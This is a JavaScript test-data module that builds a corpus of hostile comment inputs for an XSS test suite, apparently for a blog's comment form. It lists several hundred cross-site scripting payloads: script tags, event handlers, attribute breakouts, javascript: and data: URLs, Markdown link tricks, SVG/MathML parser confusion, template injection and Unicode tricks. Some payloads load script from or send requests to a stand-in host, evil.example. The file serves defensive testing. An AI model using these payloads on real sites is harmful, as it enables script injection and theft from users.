// Hostile comment input for the XSS suite (xss_test.mjs), as data. Each entry is one comment
// field a stranger controls: `field` is "body" (Markdown), "name" or "url" (the web site),
// `value` what they type, with "@@" standing for the entry's marker (XSS001, XSS002, ...).
// Every value tries to run script that the page's trap notices — alert(@@), window.__xss(@@),
// document.title = ..., window.__pwned = ..., or a request to evil.example — and every
// value keeps the marker where a reader would see it once the input is shown as text, so a
// payload that turned into markup (and hid its marker in a tag or an attribute) fails the
// suite even where the Content-Security-Policy kept it from running. `shows` lists more
// text that must be seen as typed (template syntax must not be evaluated).
//
// Web sites are not shown as text: a "url" entry is checked by its name (which the web site
// link wraps) and by the link's target, which must be plain http(s) or absent; a web site
// that is not an absolute http(s) URL may be refused (422) rather than stored.

const entries = [];

function family(field, values, extra = {}) {
    for (const value of values) entries.push({ field, value, ...extra });
}

// ---- Classic script tags, in every case and spacing, and the ways out of the elements the
// page puts comments in (paragraphs, the form's textarea, the title, the JSON-LD block).
family("body", [
    "<script>alert('@@')</script>",
    "<SCRIPT>window.__xss('@@')</SCRIPT>",
    "<ScRiPt>document.title='@@'</sCrIpT>",
    "<script src=//evil.example/@@.js></script>",
    "<script src='https://evil.example/@@.js'></script>",
    "<script type=module>import('//evil.example/@@.js')</script>",
    "<script>fetch('https://evil.example/@@')</script>",
    "<script>window.__pwned='@@'</script>",
    "<script/xss>alert('@@')</script>",
    "<script\n>alert('@@')</script\n>",
    "<script\t>alert('@@')</script>",
    "<scr<script>ipt>alert('@@')</scr</script>ipt>",
    "<<script>alert('@@');//<</script>",
    "</p><script>alert('@@')</script><p>",
    "</div></article></section><script>alert('@@')</script>",
    "</textarea><script>alert('@@')</script>",
    "</title><script>alert('@@')</script>",
    "</style><script>alert('@@')</script>",
    "</script><script>alert('@@')</script>",
    "\"></script><script>alert('@@')</script>",
    "<script>/* @@ */alert(1)</script>",
    "%3Cscript%3Ealert('@@')%3C/script%3E",
    "&lt;script&gt;alert('@@')&lt;/script&gt;",
    "&#60;script&#62;alert('@@')&#60;/script&#62;",
    "\\u003cscript\\u003ealert('@@')\\u003c/script\\u003e",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('@@')>\">",
    "    <script>alert('@@')</script>",
    "```\n</code></pre><script>alert('@@')</script>\n```",
    "`</code><script>alert('@@')</script>`",
]);

// ---- Event-handler attributes on elements that fire them without a click, and elements
// that load from elsewhere (foreign requests) or move the page.
family("body", [
    "<img src=x onerror=alert('@@')>",
    "<img src=\"x\" onerror=\"window.__xss('@@')\">",
    "<img src=x OnErRoR=alert('@@')>",
    "<img/src/onerror=alert('@@')>",
    "<img src=x onerror=alert&#40;'@@'&#41;>",
    "<img src=x:x onerror=document.title='@@'>",
    "<img src=https://evil.example/@@.png>",
    "<img srcset=\"https://evil.example/@@.png 1x\">",
    "<image src=x onerror=alert('@@')>",
    "<svg onload=alert('@@')>",
    "<body onload=alert('@@')>",
    "<body onpageshow=window.__xss('@@')>",
    "<iframe src=javascript:alert('@@')></iframe>",
    "<iframe src=https://evil.example/@@></iframe>",
    "<input autofocus onfocus=alert('@@')>",
    "<textarea autofocus onfocus=alert('@@')>x</textarea>",
    "<details open ontoggle=alert('@@')>",
    "<video><source onerror=alert('@@')></video>",
    "<audio src=x onerror=alert('@@')>",
    "<marquee onstart=alert('@@')>m</marquee>",
    "<div onmouseover=alert('@@')>hover @@</div>",
    "<a href=# onclick=alert('@@')>click @@</a>",
    "<object data=javascript:alert('@@')></object>",
    "<embed src=javascript:alert('@@')>",
    "<link rel=stylesheet href=https://evil.example/@@.css>",
    "<link rel=import href=https://evil.example/@@.html>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('@@')\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/@@\">",
    "<base href=https://evil.example/@@/>",
    "<form action=javascript:alert('@@')><button>go @@</button></form>",
    "<button formaction=javascript:alert('@@')>@@</button>",
    "<isindex action=javascript:alert('@@') type=image>",
    "<style>@import 'https://evil.example/@@.css';</style>",
    "<div style=\"background:url(https://evil.example/@@.png)\">@@</div>",
    "<div style=\"width:expression(alert('@@'))\">@@</div>",
    "<x contenteditable onblur=alert('@@')>@@</x>",
    "<body onhashchange=alert('@@')>",
    "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">@@",
]);

// ---- Breaking out of an attribute: the name and web site land in attributes (the author
// link, "replying to"), the body in the form's textarea when a form is shown again.
family("body", [
    "\" onmouseover=\"alert('@@')",
    "' onfocus='alert(\"@@\")' autofocus='",
    "\"><img src=x onerror=alert('@@')>",
    "'><svg onload=alert('@@')>",
    "\" autofocus onfocus=\"alert('@@')",
    "` onerror=alert('@@') `",
    "\"/><script>alert('@@')</script>",
    "&quot; onmouseover=&quot;alert('@@')",
    "&#34;><img src=x onerror=alert('@@')>",
    "\\\"><img src=x onerror=alert('@@')>",
]);
family("name", [
    "\" onmouseover=\"alert('@@')",
    "' onfocus='alert(1)' autofocus='@@",
    "\"><img src=x onerror=alert('@@')>",
    "'><svg onload=alert('@@')>",
    "\"/><script>alert('@@')</script>",
    "` onerror=alert('@@') `",
    "&quot;><script>alert('@@')</script>",
    "</a><script>alert('@@')</script>",
    "</span></header><script>alert('@@')</script>",
    "</textarea><script>alert('@@')</script>",
    "</title><script>alert('@@')</script>",
    "</script><script>alert('@@')</script>",
    "<script>alert('@@')</script>",
    "<img src=x onerror=alert('@@')>",
    "<svg/onload=window.__xss('@@')>",
    "<a href=javascript:alert(1)>@@</a>",
    "<iframe src=https://evil.example/@@>",
    "<b onmouseover=alert('@@')>@@</b>",
    "{{7*7}} @@",
    "{{{name}}} @@",
    "\u202Egnp.@@.exe",
    "@@ \u202E<script>alert(1)</script>",
    "Ａｄｍｉｎ @@",
    "Аdmіn @@ (Cyrillic А and і)",
    "@@ \u200B\u200C\u200D\uFEFF zero width",
    "＜script＞alert('@@')＜/script＞",
    "@@ 🙂 𝒳𝒮𝒮",
    "[@@](javascript:alert(1))",
    "@@\ttab",
    "@@\nline",
    "@@\u0000nul",
    "@@ <!-- comment -->",
    "@@ ]]> <![CDATA[",
    "@@" + "<b>".repeat(30),
]);

// ---- `javascript:`, `vbscript:` and `data:` URLs, as web sites: mixed case, leading
// spaces, tabs and newlines inside the scheme, entities and percent-encoding, NUL. Also
// http(s) URLs that try to break out of the href.
family("url", [
    "javascript:alert('@@')",
    "JaVaScRiPt:alert('@@')",
    "JAVASCRIPT:alert('@@')",
    "  javascript:alert('@@')",
    "\tjavascript:alert('@@')",
    "java\tscript:alert('@@')",
    "java\nscript:alert('@@')",
    "java\rscript:alert('@@')",
    "java\u0000script:alert('@@')",
    "&#106;avascript:alert('@@')",
    "&#x6A;&#x61;&#x76;&#x61;script:alert('@@')",
    "javascript&colon;alert('@@')",
    "%6Aavascript:alert('@@')",
    "javascript://%0Aalert('@@')",
    "javascript://example.org/%0Aalert('@@')",
    "\u0001javascript:alert('@@')",
    "ｊａｖａｓｃｒｉｐｔ：alert('@@')",
    "vbscript:msgbox('@@')",
    "data:text/html,<script>alert('@@')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#@@",
    "DATA:text/html,<script>alert('@@')</script>",
    " data:image/svg+xml,<svg onload=alert('@@')>",
    "data:application/javascript,alert('@@')",
    "//evil.example/@@",
    "/admin/@@",
    "https://example.org/@@\" onmouseover=\"alert(1)",
    "https://example.org/@@'><script>alert(1)</script>",
    "http://example.org/@@\"><img src=x onerror=alert(1)>",
    "https://example.org/@@`onerror=alert(1)",
    "https://example.org/@@ onmouseover=alert(1)",
    "https://example.org/@@",
    "http://EXAMPLE.org/@@?q=<script>",
    "https://exаmple.org/@@",
    "https://evil.example/@@#\u202Egnp.exe",
    "mailto:@@@example.org",
]);

// ---- The same schemes as Markdown link targets: inline, in angle brackets, reference
// definitions, autolinks; images whose description or target tries to become an attribute.
family("body", [
    "[@@](javascript:alert('@@'))",
    "[@@](JAVASCRIPT:alert(1))",
    "[@@]( javascript:alert(1))",
    "[@@](<javascript:alert(1)>)",
    "[@@](<java\tscript:alert(1)>)",
    "[@@](javascript&#58;alert(1))",
    "[@@](&#106;avascript:alert(1))",
    "[@@](javas&#x63;ript:alert(1))",
    "[@@](java%73cript:alert(1))",
    "[@@](javascript:alert%28'@@'%29)",
    "[@@](java&#0;script:alert(1))",
    "[@@](java\u0000script:alert(1))",
    "[@@](vbscript:msgbox(1))",
    "[@@](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[@@](data:text/html,<script>alert(1)</script>)",
    "[@@](//evil.example/x)",
    "[@@](/admin/blogs/1/comments/1/delete)",
    "[@@](javascript:alert(1) \"title\")",
    "[@@](https://example.org/\" onclick=\"alert(1))",
    "[@@](https://example.org \"t\\\" onmouseover=alert(1) x=\\\"\")",
    "[@@](https://example.org/'onmouseover='alert(1))",
    "[[@@]](javascript:alert(1))",
    "[a](b)(c)[@@](javascript:alert(1))",
    "[@@][evil]\n\n[evil]: javascript:alert('@@')",
    "[@@]\n\n[@@]: javascript:alert(1)",
    "[x]: <javascript:alert(1)> \"t\"\n\n[@@][x]",
    "[@@][d]\n\n[d]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert('@@')>",
    "<JavaScript:window.__xss('@@')>",
    "<data:text/html,<script>alert(1)</script>@@>",
    "<vbscript:msgbox('@@')>",
    "<https://example.org/@@>",
    "<mailto:@@@example.org>",
    "<https://example.org/@@\"onmouseover=\"alert(1)>",
    "https://evil.example/@@\"><script>alert(1)</script>",
    "www.evil.example/@@\"onmouseover=alert(1)",
    "![@@](x\" onerror=\"alert('@@'))",
    "![@@](x \"\" onerror=\"alert(1)\")",
    "![@@\" onerror=\"alert(1)](x)",
    "![@@](javascript:alert(1))",
    "![@@](https://evil.example/@@.png)",
    "![@@](data:image/svg+xml,<svg onload=alert(1)>)",
    "![@@](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![@@][img]\n\n[img]: https://evil.example/@@.png",
    "[![@@](x)](javascript:alert(1))",
    "![[@@](javascript:alert(1))](x)",
    "![a ![@@](https://evil.example/y.png)](x)",
    "[@@](https://example.org/)<img src=x onerror=alert(1)>",
]);

// ---- SVG and MathML: their own parsing rules, script and animation elements, xlink.
family("body", [
    "<svg><script>alert('@@')</script></svg>",
    "<svg><script href=data:,alert('@@') />",
    "<svg><animate onbegin=alert('@@') attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert('@@')>",
    "<svg><a xlink:href=\"javascript:alert('@@')\"><text x=20 y=20>@@</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x\"/>@@",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.alert('@@')</script>\"></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert('@@')></style></svg>",
    "<svg/onload=alert('@@')>",
    "<svg><discard onbegin=alert('@@')>",
    "<svg><image href=https://evil.example/@@.png />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('@@')>",
    "<math href=\"javascript:alert('@@')\">@@</math>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:alert('@@')\">@@</maction></math>",
    "<math><mi xlink:href=\"data:x,<script>alert('@@')</script>\">@@</mi></math>",
    "<math><style><img src=x onerror=alert('@@')></style></math>",
]);

// ---- Broken and nested markup: unterminated tags and attributes, parser-confusing
// elements (textarea, plaintext, xmp, template, noembed), misnesting.
family("body", [
    "<img src=\"x\n@@ onerror=alert(1)//",
    "<<img src=x onerror=alert('@@')//<",
    "<a href=\"javascript:alert('@@')\"",
    "<div><p><b><i>@@</div>",
    "<textarea><script>alert('@@')</script>",
    "<plaintext>@@",
    "<xmp><script>alert('@@')</script></xmp>",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert('@@')&lt;/script&gt;\"></iframe>",
    "<template><script>alert('@@')</script></template>",
    "<select><template><style><img src=x onerror=alert('@@')>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert('@@')>\">",
    "<a href=\"https://example.org/\">@@<a href=\"javascript:alert(1)\">x",
    "<table><td background=\"javascript:alert('@@')\">x",
    "<keygen autofocus onfocus=alert('@@')>",
    "<img src=x onerror=alert('@@')",
    "<p\n>@@</p\n>",
    "<div\n\n>@@ <img src=x onerror=alert(1)>",
    "> <script>alert('@@')</script>\n>> <img src=x onerror=alert(1)>",
    "- <script>alert('@@')</script>\n  - <img src=x onerror=alert(1)>",
    "1. <svg onload=alert('@@')>",
    "**<script>**alert('@@')**</script>**",
    "_<img src=x onerror=alert('@@')>_",
    "~~<script>alert('@@')</script>~~",
    "# <script>alert('@@')</script>",
    "Line one @@  \n<script>alert(1)</script>",
]);

// ---- HTML comments, CDATA, processing instructions, doctype: ways to hide the rest of a
// page or smuggle a tag past a filter.
family("body", [
    "<!-- @@ --><script>alert(1)</script>",
    "<!--<img src=x onerror=alert('@@')>-->",
    "--><img src=x onerror=alert('@@')>",
    "<!--[if IE]><script>alert('@@')</script><![endif]-->",
    "<!--><img src=x onerror=alert('@@')>-->",
    "<![CDATA[<script>alert('@@')</script>]]>",
    "]]><script>alert('@@')</script>",
    "<![CDATA[ @@ ]]>",
    "<?xml version=\"1.0\"?><script>alert('@@')</script>",
    "<!DOCTYPE x [<!ENTITY e \"@@\">]>&e;",
    "<!-- unclosed comment @@",
]);

// ---- Template injection: Mustache, and what other template languages evaluate. The text
// must show as typed, never evaluated nor swallowed.
const templates = [
    ["{{7*7}} @@", "{{7*7}}"],
    ["{{{@@}}}", "{{{@@}}}"],
    ["{{{html}}} @@", "{{{html}}}"],
    ["{{#comment_items}}@@{{/comment_items}}", "{{#comment_items}}"],
    ["{{=<% %>=}}<%@@%>", "{{=<% %>=}}"],
    ["{{> entry}} @@", "{{> entry}}"],
    ["{{! hidden}} @@", "{{! hidden}}"],
    ["{{&csrf}} @@", "{{&csrf}}"],
    ["{{t.comment_send}} @@", "{{t.comment_send}}"],
    ["${7*7} @@", "${7*7}"],
    ["<%= 7*7 %> @@", "<%= 7*7 %>"],
    ["#{7*7} @@", "#{7*7}"],
    ["{{constructor.constructor('alert(1)')()}} @@", "{{constructor.constructor('alert(1)')()}}"],
    ["[[7*7]] @@", "[[7*7]]"],
    ["{% raw %}{{7*7}}{% endraw %} @@", "{% raw %}"],
];
for (const [value, shown] of templates) entries.push({ field: "body", value, shows: [shown] });

// ---- Unicode tricks: bidirectional overrides, homoglyphs and fullwidth forms, invisible
// characters, line separators, astral characters, lone combining marks.
family("body", [
    "\u202E<script>alert('@@')</script>",
    "\u202Egnp.@@.exe",
    "\u2066\u2067\u2068@@\u2069 \u200F<img src=x onerror=alert(1)>",
    "ｊａｖａｓｃｒｉｐｔ：alert('@@')",
    "＜script＞alert('@@')＜/script＞",
    "\uFE64script\uFE65alert('@@')\uFE64/script\uFE65",
    "<scr\u200Bipt>alert('@@')</scr\u200Bipt>",
    "[@@](java\u200Bscript:alert(1))",
    "[@@](јаvаѕсrірt:alert(1))",
    "\uFEFF<script>alert('@@')</script>",
    "@@\u2028<script>\u2029alert(1)</script>",
    "@@ \uD835\uDCB3\uD835\uDCAE\uD835\uDCAE 🙂 e\u0301 \u0301\u0301\u0301",
    "\u00A0<img src=x onerror=alert('@@')>",
    "\u000B\u000C<script>alert('@@')</script>",
]);

// ---- Very long input (the body may hold 10,000 characters): a flood of tags, deep
// nesting of quotes, emphasis and lists, a very long word, the marker at the far end.
family("body", [
    "<script>alert(1)</script>".repeat(380) + " @@",
    ">".repeat(2000) + " <script>alert('@@')</script>",
    "*".repeat(4000) + "@@" + "*".repeat(4000),
    "[".repeat(3000) + "@@" + "](javascript:alert(1))".repeat(200),
    "- ".repeat(1500) + "<img src=x onerror=alert('@@')>",
    "x".repeat(9000) + "@@",
    "<a ".repeat(2400) + "@@",
    "&#x3C;".repeat(1600) + "script@@",
]);
family("name", ["<script>".repeat(11) + "@@", "x".repeat(94) + "@@"]);

// Numbered markers, "XSS001"...; "@@" replaced everywhere in the value and `shows`.
export const corpus = entries.map((entry, index) => {
    const marker = `XSS${String(index + 1).padStart(3, "0")}`;
    if (!entry.value.includes("@@")) throw new Error(`corpus entry ${index + 1} has no marker: ${entry.value}`);
    return {
        ...entry,
        marker,
        value: entry.value.replaceAll("@@", marker),
        shows: (entry.shows ?? []).map((text) => text.replaceAll("@@", marker)),
    };
});
